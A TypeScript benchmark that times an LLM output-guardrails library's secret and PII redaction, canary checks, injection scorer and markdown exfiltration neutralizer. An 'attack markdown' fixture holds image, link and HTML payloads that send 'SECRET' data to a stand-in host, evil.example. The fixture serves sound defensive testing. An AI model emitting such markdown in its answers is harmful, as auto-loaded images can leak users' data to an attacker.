// Guardrails throughput and streaming overhead (prints figures; not a test).
//   node bench/guardrails.ts [--mb N]
// - whole-text scan and streaming scan throughput (MB/s) for every output rule of a strict policy (secrets + PII +
//   custom patterns + canaries + exfiltration), on prose, on the labelled corpus, and on adversarial text;
// - CPU per streamed delta (p50 / p99), at token-sized deltas;
// - the exfiltration stage's cost per KB (prose, chat markdown, attack markdown), whole and streamed;
// - time to first token added by the holdback: how many upstream deltas pass before the client sees text,
//   converted to milliseconds at a given generation speed;
// - redaction cost per KB of output with the full ruleset (every built-in detector + the adopted gitleaks ruleset +
//   Tollgate's rules + custom patterns + canary + exfiltration): realistic chat answers (prose, code, config, curl
//   commands, some with credentials), p50 / p99 over responses, whole response and streamed in 5-character deltas,
//   per kind of text (prose, code, JSON, logs; bench/guardrails-redaction.ts).
import { parseArgs } from 'node:util';
import MarkdownIt from 'markdown-it';
import { negatives, positives } from '../guardrails/eval/generate.ts';
import { answers, KINDS, measure, REDACTION_GUARD, warmUp } from './guardrails-redaction.ts';
import { secretRuleset } from '../guardrails/secrets/ruleset.ts';
import { compileGuard, STRICT_GUARDRAILS } from '../guardrails/guard.ts';
import { scoreText } from '../guardrails/injection.ts';
import { exfiltrationPolicy } from '../guardrails/exfiltration.ts';
import { ExfilStream, neutralizeMarkdown } from '../guardrails/markdown.ts';

const { values } = parseArgs({
  options: { mb: { type: 'string', default: '2' }, 'tokens-per-second': { type: 'string', default: '50' } },
});
const targetBytes = Number(values.mb) * 1e6;
const tps = Number(values['tokens-per-second']);

const guard = compileGuard({
  ...STRICT_GUARDRAILS,
  redaction: {
    detectors: ['secrets', 'pii'],
    customPatterns: [
      { name: 'customer-id', pattern: 'CUST-[0-9]{8}' },
      { name: 'ticket', pattern: 'TCK-[A-Z]+-\\d+' },
    ],
  },
  canaries: ['tg-canary-7f3a9c1e'],
  exfiltration: { mode: 'neutralize', allowedHosts: ['docs.example.com'] },
});

const PROSE =
  'Kubernetes schedules pods onto nodes that satisfy their resource requests. The scheduler scores each feasible node, ' +
  'and the pod lands on the best one; if none fits, it stays pending until capacity frees up. Requests are what the ' +
  'scheduler reserves, limits are what the kubelet enforces. Setting both keeps noisy neighbours in check.\n\n';
const fill = (unit: string) => unit.repeat(Math.ceil(targetBytes / unit.length)).slice(0, targetBytes);
const corpusUnit = [...positives(1, 2).map((p) => p.text), ...negatives(2, 2).map((n) => n.text)].join('\n\n');
const TEXTS: [string, string][] = [
  ['prose', fill(PROSE)],
  ['labelled corpus (dense secrets)', fill(`${corpusUnit}\n\n`)],
  [
    'adversarial (100 KB runs, no newlines)',
    fill(`${'a'.repeat(50_000)}${'1'.repeat(30_000)}${'eyJ'.repeat(5_000)}${'-----BEGIN '.repeat(500)}`),
  ],
];

function mbps(bytes: number, ms: number): string {
  return (bytes / 1e6 / (ms / 1000)).toFixed(1);
}

function quantile(xs: number[], q: number): number {
  const s = [...xs].sort((a, b) => a - b);
  return s[Math.min(s.length - 1, Math.floor(q * s.length))] ?? 0;
}

const ruleset = secretRuleset();
console.log(
  `guardrails bench: ${guard.outputRules.length} output rules (${ruleset.rules.size} from the secret ruleset), ${values.mb} MB per text, Node ${process.version}\n`,
);

// redaction cost per KB on realistic responses, per kind of text (bench/guardrails-redaction.ts has the details)
{
  const g = REDACTION_GUARD();
  warmUp(g);
  console.log(
    'redaction cost per KB of output, full ruleset, 100 answers of 1-8 KB per kind (least CPU of 5 runs, p50 / p99; mean process CPU):',
  );
  for (const kind of KINDS) {
    const m = measure(g, answers(kind, 100));
    console.log(
      `  ${kind.padEnd(6)} whole ${quantile(m.whole, 0.5).toFixed(3)} / ${quantile(m.whole, 0.99).toFixed(3)} / ${m.wholeMean.toFixed(3)} ms/KB   5-char deltas ${quantile(m.streamed, 0.5).toFixed(3)} / ${quantile(m.streamed, 0.99).toFixed(3)} / ${m.streamedMean.toFixed(3)} ms/KB`,
    );
  }
  console.log('');
}
console.log(
  `${'text'.padEnd(40)}${'whole MB/s'.padStart(12)}${'stream MB/s (delta 4 / 16 / 256 chars)'.padStart(42)}${'CPU per 4-char delta p50 / p99'.padStart(34)}`,
);
for (const [name, text] of TEXTS) {
  guard.scanOutput(text.slice(0, 100_000)); // warm up
  let t0 = performance.now();
  guard.scanOutput(text);
  const whole = performance.now() - t0;
  const rates: string[] = [];
  let lat: number[] = [];
  for (const size of [4, 16, 256]) {
    const s = guard.streamOutput();
    const n = size === 4 ? Math.min(text.length, 400_000) : text.length; // small deltas: a 400 KB prefix is plenty
    const samples: number[] = [];
    t0 = performance.now();
    for (let i = 0; i < n; i += size) {
      const a = size === 4 ? performance.now() : 0;
      s.push(text.slice(i, i + size));
      if (size === 4) samples.push(performance.now() - a);
    }
    s.end();
    rates.push(mbps(n, performance.now() - t0));
    if (size === 4) lat = samples;
  }
  console.log(
    `${name.padEnd(40)}${mbps(text.length, whole).padStart(12)}${rates.join(' / ').padStart(42)}${`${(quantile(lat, 0.5) * 1000).toFixed(1)} / ${(quantile(lat, 0.99) * 1000).toFixed(1)} µs`.padStart(34)}`,
  );
}

// time to first token: replay outputs as ~4-character token deltas and count deltas before the first release
const starts = [
  PROSE,
  'Sure! Here is the summary you asked for:\n\n1. The report shows growth.',
  '```python\ndef fibonacci(n: int) -> int:\n    return n if n < 2 else fibonacci(n - 1) + fibonacci(n - 2)\n```',
  '| name | score |\n|------|-------|\n| Ada  | 10    |',
  'Internationalization-related considerations aside, the answer is yes.',
  'Contact support@example.com for help.',
  'See [the docs](https://docs.example.com/guide) first.',
];
const heldDeltas: number[] = [];
for (const t of starts) {
  const s = guard.streamOutput();
  let k = 0;
  for (let i = 0; i < t.length; i += 4) {
    k++;
    if (s.push(t.slice(i, i + 4)).text !== '') break;
  }
  heldDeltas.push(k - 1);
}
const perToken = 1000 / tps;
console.log(
  `\ntime to first token added (tokens of ~4 chars at ${tps} tokens/s): ${heldDeltas.map((k) => `${k} (${(k * perToken).toFixed(0)} ms)`).join(', ')}`,
);
console.log(
  `  median ${quantile(heldDeltas, 0.5)} token(s) = ${(quantile(heldDeltas, 0.5) * perToken).toFixed(0)} ms; worst ${Math.max(...heldDeltas)} = ${(Math.max(...heldDeltas) * perToken).toFixed(0)} ms (a word is released once the next character shows it is not a secret's start)`,
);

// prompt-injection scorer throughput
const prompts = fill(`${PROSE}Please summarise the text above and list three action items for the team.\n`).slice(
  0,
  1_000_000,
);
let t1 = performance.now();
for (let i = 0; i < prompts.length; i += 4000) scoreText(prompts.slice(i, i + 4000));
console.log(`\ninjection scorer: ${mbps(prompts.length, performance.now() - t1)} MB/s on 4 KB prompts`);
t1 = performance.now();
for (let i = 0; i < 2000; i++) scoreText(`What is the capital of France? (${i})`);
console.log(`injection scorer: ${(((performance.now() - t1) / 2000) * 1000).toFixed(1)} µs per short prompt`);

// exfiltration stage alone (markdown-it under 4 client configs, rewrites, re-check): cost per KB of output
{
  const policy = exfiltrationPolicy('neutralize', ['docs.example.com']);
  if (!policy) throw new Error('unreachable');
  const MD =
    'See [the guide](https://docs.example.com/guide) and run `kubectl get pods`:\n\n```bash\nkubectl apply -f deploy.yaml\n```\n\n' +
    '- **Requests** are reserved by the scheduler.\n- **Limits** are enforced by the kubelet.\n\n| field | meaning |\n|---|---|\n| cpu | cores |\n\n';
  const ATTACK = `Here: ![chart](https://evil.example/c.png?d=SECRET) and https://evil.example/x?d=1 <img src="https://evil.example/p"> [r][ref]\n\n[ref]: https://evil.example/r\n\n`;
  const kb = 256;
  const unit = (u: string) => u.repeat(Math.ceil((kb * 1024) / u.length)).slice(0, kb * 1024);
  const client = MarkdownIt({ html: true, linkify: true });
  console.log(
    `\nexfiltration stage (${kb} KB per text): µs per KB whole / streamed in 4-char deltas / streamed in 64-char deltas; a client's own markdown-it render for scale`,
  );
  for (const [name, text] of [
    ['prose', unit(PROSE)],
    ['chat markdown (links to allowed hosts, code, lists, tables)', unit(MD)],
    ['attack markdown (every construct to a remote host)', unit(ATTACK)],
  ] as const) {
    neutralizeMarkdown(text.slice(0, 20_000), policy); // warm up
    let t0 = performance.now();
    neutralizeMarkdown(text, policy);
    const whole = performance.now() - t0;
    const per: string[] = [];
    for (const size of [4, 64]) {
      const s = new ExfilStream(policy);
      t0 = performance.now();
      for (let i = 0; i < text.length; i += size) s.push(text.slice(i, i + size));
      s.end();
      per.push((((performance.now() - t0) * 1000) / kb).toFixed(0));
    }
    t0 = performance.now();
    client.render(text);
    const render = performance.now() - t0;
    console.log(
      `  ${name.padEnd(62)}${((whole * 1000) / kb).toFixed(0).padStart(8)} / ${per.join(' / ')} µs/KB   (render ${((render * 1000) / kb).toFixed(0)} µs/KB)`,
    );
  }
}
